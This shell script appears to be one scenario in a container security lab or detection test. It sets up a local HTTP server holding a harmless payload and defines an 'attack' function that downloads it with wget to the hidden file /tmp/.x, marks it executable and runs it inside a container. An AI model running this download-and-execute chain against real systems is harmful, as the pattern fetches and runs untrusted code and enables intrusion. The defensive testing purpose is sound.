# Download and execute: the container fetches a script from a server on the host, makes it executable in
# /tmp and runs it.
normal() { inside "$1" /bin/sh -c 'echo ok > /tmp/health; cat /tmp/health' >/dev/null; }
host_setup() {
  SERVE_DIR="$LAB_DIR/www.$$"; mkdir -p "$SERVE_DIR"
  printf '#!/bin/sh\nid\nuname -a\n' > "$SERVE_DIR/payload.sh"
  SERVE_PORT=$(free_port)
  python3 -m http.server "$SERVE_PORT" --bind 127.0.0.1 --directory "$SERVE_DIR" >/dev/null 2>&1 &
  SERVER=$!
  wait_http "http://127.0.0.1:$SERVE_PORT/payload.sh"
}
attack() {
  inside "$1" /bin/sh -c "wget -q -O /tmp/.x http://127.0.0.1:$SERVE_PORT/payload.sh && chmod +x /tmp/.x && /tmp/.x" \
    >/dev/null
}
host_cleanup() { [ -z "${SERVER:-}" ] || kill "$SERVER" 2>/dev/null || true; rm -rf "${SERVE_DIR:-/nonexistent}"; }
